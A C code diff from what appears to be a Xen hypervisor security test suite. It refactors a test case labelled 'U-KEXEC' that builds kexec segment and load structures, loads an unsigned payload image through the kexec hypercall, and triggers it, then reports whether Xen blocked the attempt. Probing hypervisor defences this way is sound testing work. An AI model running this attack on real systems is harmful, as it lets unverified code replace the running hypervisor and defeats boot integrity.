@@ -6,7 +6,6 @@
 #include "../rogue.h"
 
 #include <elf.h>
-#include <time.h>
 
 #include <xen/kexec.h>
 
@@ -56,29 +55,24 @@ __asm__(
  */
 ATTACK_OWN_BOOT("U-KEXEC", "load an unsigned image with kexec and run it")
 {
-    static const struct timespec for_the_jump = { .tv_sec = 2 };
-    xen_kexec_segment_t *segment = buffer(PAGE_SIZE);
-    xen_kexec_load_t *load = buffer(PAGE_SIZE);
-    xen_kexec_exec_t *exec = buffer(PAGE_SIZE);
     char *image = buffer(PAGE_SIZE);
+    xen_kexec_segment_t segment = { .buf.h.p = image,
+                                    .buf_size = PAGE_SIZE,
+                                    .dest_size = PAGE_SIZE,
+                                    .dest_maddr = payload_at };
+    xen_kexec_load_t load = { .type = KEXEC_TYPE_DEFAULT,
+                              .arch = EM_X86_64,
+                              .nr_segments = 1,
+                              .entry_maddr = payload_at,
+                              .segments.h.p = &segment };
+    xen_kexec_exec_t exec = { .type = KEXEC_TYPE_DEFAULT };
 
     memcpy(image, kexec_payload, (size_t)(kexec_payload_end - kexec_payload));
-    set_xen_guest_handle(segment->buf.h, image);
-    segment->buf_size = segment->dest_size = PAGE_SIZE;
-    segment->dest_maddr = payload_at;
-
-    load->type = exec->type = KEXEC_TYPE_DEFAULT;
-    load->arch = EM_X86_64;
-    load->nr_segments = 1;
-    load->entry_maddr = payload_at;
-    set_xen_guest_handle(load->segments.h, segment);
-
-    if ( hypercall2(__HYPERVISOR_kexec_op, KEXEC_CMD_kexec_load, load) ==
-         -ENOSYS )
+    if ( kexec_op(KEXEC_CMD_kexec_load, &load) == -ENOSYS )
         return not_applicable("Xen takes no kexec from this kind of dom0");
     announce("about to kexec");
-    hypercall2(__HYPERVISOR_kexec_op, KEXEC_CMD_kexec, exec);
-    nanosleep(&for_the_jump, NULL);
+    kexec_op(KEXEC_CMD_kexec, &exec);
+    rest(2000);
 
     return effect(false, "Xen and dom0 still run");
 }
